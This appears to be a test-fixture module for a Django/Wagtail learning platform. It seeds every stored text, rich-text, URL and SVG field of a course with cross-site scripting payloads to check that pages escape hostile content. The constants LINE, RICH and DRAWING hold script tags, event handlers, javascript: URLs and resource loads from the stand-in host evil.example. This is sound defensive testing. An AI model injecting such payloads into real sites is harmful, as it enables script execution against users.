"""A course whose every place for words holds an attack, put past every form; and people like it.

The words are written straight into the tables: by a script, a restored database, an editor's
form that one day forgets to look. They also begin in Arabic, which runs from right to left.
"""

import json
from dataclasses import dataclass
from typing import Any

from django.db import models
from django.utils import timezone
from wagtail import blocks
from wagtail.fields import RichTextField, StreamField
from wagtail.images import get_image_model
from wagtail.images.tests.utils import get_test_image_file
from wagtail.models import Page

from accounts.models import Cohort, Membership, Organisation, User
from accounts.services import add_facilitator, create_cohort, create_organisation
from content.blocks import body_blocks
from content.models import Sketchnote
from courses.bank.models import BankQuestion
from courses.catalogue.models import CourseGuidePage, CoursePage, ModulePage
from courses.catalogue.practice_tools import tool_blocks
from courses.catalogue.selectors import CourseOutline, course_outline
from courses.policies.models import LocalPolicy
from courses.questions.kinds import KINDS
from learning.enrolments.services import add_learner
from tests.factories.accounts import give_second_factor, make_member
from tests.factories.bank import make_bank_question
from tests.factories.learning import ACTIVITIES, NOW, REVIEWED, make_course
from tests.factories.policies import make_policy
from tests.factories.questions import stored_question

ARABIC = "مرحبا"
LINE = (
    f"{ARABIC} \"'></title></textarea><script>hit()</script><img src=//evil.example onerror=hit()>"
)
ADDRESS = "javascript:hit()"
# Well-formed, so that the editor for rich text opens it.
RICH = f"<p>{ARABIC} " + (
    "<script>hit()</script><script src='//evil.example/a.js'></script>"
    "<img src='//evil.example/a.png' onerror='hit()'/><img src='data:,x' onload='hit()'/>"
    "<a href='javascript:hit()' onmouseover='hit()' style='background:url(//evil.example/b)'>go</a>"
    "<a href='data:text/html,<script>hit()</script>'>data</a><a href='vbscript:hit()'>old</a>"
    "<iframe src='//evil.example/f' srcdoc='<script>parent.hit()</script>'></iframe>"
    "<object data='//evil.example/o'></object><embed src='//evil.example/e'/>"
    "<link rel='stylesheet' href='//evil.example/c.css'/><style>@import '//evil.example/d.css';"
    "*{background:url(//evil.example/g)}</style><base href='//evil.example/'/>"
    "<meta http-equiv='refresh' content='0;url=//evil.example/m'/>"
    "<form action='//evil.example/p'><button formaction='javascript:hit()'>Press</button></form>"
    "<video src='//evil.example/v' autoplay='' onerror='hit()'></video>"
    "<audio><source src='//evil.example/s' onerror='hit()'/></audio>"
    "<svg onload='hit()'><script>hit()</script><image href='//evil.example/i'/>"
    "<set attributeName='href' to='javascript:hit()'/><foreignObject>"
    "<iframe src='//evil.example/k'></iframe></foreignObject></svg>"
    "<math><mtext href='javascript:hit()'>m</mtext></math>"
    "<embed embedtype='media' url='https://evil.example/w'/><details open='' ontoggle='hit()'>d"
    "</details><input autofocus='' onfocus='hit()'/><marquee onstart='hit()'>m</marquee></p>"
)
DRAWING = f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
 xmlns:h="http://www.w3.org/1999/xhtml" viewBox="0 0 200 100" onload="hit()" aria-hidden="true">
<title>{ARABIC} drawing</title><script>hit()</script><h:script>hit()</h:script>
<style>@import "//evil.example/a.css"; path {{ fill: url(//evil.example/b.svg) }}</style>
<image href="//evil.example/c.png"/><use href="//evil.example/d.svg#x"/>
<image xlink:href="data:image/svg+xml,&lt;svg onload='hit()'/&gt;" onerror="hit()"/>
<foreignObject><h:iframe src="//evil.example/e"/><h:img src="x" onerror="hit()"/></foreignObject>
<a href="javascript:hit()"><text x="5" y="20">{ARABIC}<animate attributeName="href"
 to="javascript:hit()" onbegin="hit()"/></text></a>
<a xlink:href="//evil.example/f"><set attributeName="x" to="9"/></a>
<filter id="f"><feImage href="//evil.example/g.png"/></filter>
<path d="M0 0h9" style="fill:url(//evil.example/h)" fill="url(//evil.example/i)" onclick="hit()"
 filter="url(#f)" stroke="currentColor"/></svg>"""
PAGE_WORDS = ("title", "draft_title", "summary", "seo_title", "search_description", "licence")
PAGE_WORDS += ("content_owner", "confidence_statement")
POLICY = ("ask_first", "communications_contact", "safeguarding_contact")
POLICY += ("data_protection_contact", "support")
# A document's name and type are its own; tests/content/test_blocks.py has them.
FILES = {"video", "download"}
# Blocks' words that name something else, so that the course would be another if they changed.
NAMES = {"key", "next", "start", "after", "step", "read_again"}


def poisoned(block: blocks.Block, value: Any, name: str = "") -> Any:
    """The stored value of a block with an attack in all its words, the empty ones as well."""
    match block:
        case blocks.StructBlock():
            own = value or {}
            return {
                child: poisoned(inner, own.get(child), child)
                for child, inner in block.child_blocks.items()
            }
        case blocks.ListBlock():
            return [
                {**item, "value": poisoned(block.child_block, item["value"])}
                if isinstance(item, dict) and item.get("type") == "item"
                else poisoned(block.child_block, item)
                for item in value or []
            ]
        case blocks.StreamBlock():
            return [
                {**child, "value": poisoned(block.child_blocks[child["type"]], child["value"])}
                for child in value or []
            ]
        case blocks.RichTextBlock():
            return f"{RICH}{value or ''}"
        case blocks.URLBlock():
            return ADDRESS
        case blocks.CharBlock() | blocks.TextBlock() if name not in NAMES:
            # What was different stays different: cards name their pile, a match its line.
            return f"{LINE} {value or ''}"
    return value


def poison(thing: models.Model, **others: Any) -> None:
    """Writes the attack into every field with words, as no form and no `save` would."""
    held: dict[str, Any] = {}
    for field in type(thing)._meta.get_fields():
        if isinstance(field, StreamField):
            stored = field.get_prep_value(getattr(thing, field.name))
            raw = json.loads(stored) if isinstance(stored, str) else stored
            setattr(thing, field.name, json.dumps(poisoned(field.stream_block, raw), default=str))
        elif isinstance(field, RichTextField):
            setattr(thing, field.name, RICH)
        elif field.name in others:
            setattr(thing, field.name, others[field.name])
        else:
            continue
        held[field.name] = getattr(thing, field.name)
    type(thing)._base_manager.filter(pk=thing.pk).update(**held)


def poison_page(page: Page) -> None:
    """The published page and its newest draft."""
    poison(page, **dict.fromkeys(PAGE_WORDS, LINE), last_published_at=timezone.now())
    page.save_revision(clean=False)


@dataclass(frozen=True)
class HostileCourse:
    course: CourseOutline
    course_page: CoursePage
    modules: tuple[ModulePage, ...]
    guide: CourseGuidePage
    sketchnote: Sketchnote
    bank_question: BankQuestion
    policy: LocalPolicy
    organisation: Organisation
    cohort: Cohort
    learner: User
    facilitator: User


def make_hostile_course() -> HostileCourse:
    """Live, with every kind of block, question, tool and page, and a cohort that takes it."""
    sketchnote = Sketchnote(title=LINE, slug="hostile", svg=DRAWING, text_equivalent=RICH)
    sketchnote.alt = sketchnote.artist = sketchnote.licence = sketchnote.source = LINE
    sketchnote.save()
    picture = get_image_model().objects.create(
        title=LINE, file=get_test_image_file(filename='"><img src=x onerror=hit()>.png')
    )
    own_values = {
        "sketchnote": {"sketchnote": sketchnote.pk},
        "picture": {"image": picture.pk, "alt": "x"},
    }
    learn = [_child(name, block, own_values) for name, block in body_blocks() if name not in FILES]
    bank_question = make_bank_question(title="Bank", tags=("a tag",))
    quiz = [stored_question(kind) for kind in KINDS]
    quiz += [{"type": "bank_question", "value": bank_question.pk}]
    tools = [_child(name, block, {}) for name, block in tool_blocks()]
    activities = [
        {**activity, "value": {**activity["value"], "tools": tools[number::2]}}
        for number, activity in enumerate(ACTIVITIES)
    ]
    get_image_model().objects.update(description=LINE, artist=LINE, licence=LINE)
    outline = make_course(modules=2, learn=learn, quiz=quiz, practise=activities, pass_mark=1)
    course_page = CoursePage.objects.get(translation_key=outline.course_id)
    guide = course_page.add_child(
        instance=CourseGuidePage(
            title="Guide",
            slug="guide",
            body=json.dumps([*learn, {"type": "course_sources", "value": None}]),
            **REVIEWED,
        )
    )
    modules = tuple(ModulePage.objects.child_of(course_page).order_by("path"))
    corrected = {"type": "correction", "value": {"step": "learn", "words": "It was wrong."}}
    modules[0].corrections = json.dumps([corrected])
    modules[0].save_revision().publish()
    for page in (course_page, *ModulePage.objects.child_of(course_page), guide):
        poison_page(page)
    poison(bank_question, title=LINE[:120], last_published_at=timezone.now())
    bank_question.save_revision(clean=False)
    bank_question.tags.add(LINE[:100])
    return _with_people(outline.slug, sketchnote, bank_question)


def _child(name: str, block: blocks.Block, own_values: dict[str, Any]) -> dict[str, Any]:
    """A block as its preview in the picker shows it."""
    value = block.get_prep_value(block.normalize(block.get_preview_value()))
    if name in own_values:
        value = {**(value or {}), **own_values[name]}
    return {"type": name, "value": value}


def _with_people(slug: str, sketchnote: Sketchnote, bank_question: BankQuestion) -> HostileCourse:
    organisation = create_organisation(name=LINE, slug="hostile", by=None, now=NOW)
    facilitator = make_member(
        organisation=organisation, role=Membership.Role.FACILITATOR, name=LINE
    )
    give_second_factor(facilitator)
    learner = make_member(organisation=organisation, name=LINE)
    course = course_outline(slug)
    cohort = create_cohort(
        organisation=organisation,
        course_id=course.course_id,
        name=LINE,
        starts_at=NOW,
        by=facilitator,
    )
    add_facilitator(cohort=cohort, user=facilitator, by=facilitator, now=NOW)
    add_learner(cohort=cohort, learner=learner, by=facilitator, now=NOW)
    words = dict.fromkeys(POLICY, LINE)
    policy = make_policy(organisation, expectations=RICH, reporting=RICH, **words)
    course_page = CoursePage.objects.get(slug=slug)
    return HostileCourse(
        course=course,
        course_page=course_page,
        modules=tuple(ModulePage.objects.child_of(course_page).order_by("path")),
        guide=CourseGuidePage.objects.child_of(course_page).get(),
        sketchnote=sketchnote,
        bank_question=BankQuestion.objects.get(pk=bank_question.pk),
        policy=policy,
        organisation=organisation,
        cohort=cohort,
        learner=learner,
        facilitator=facilitator,
    )
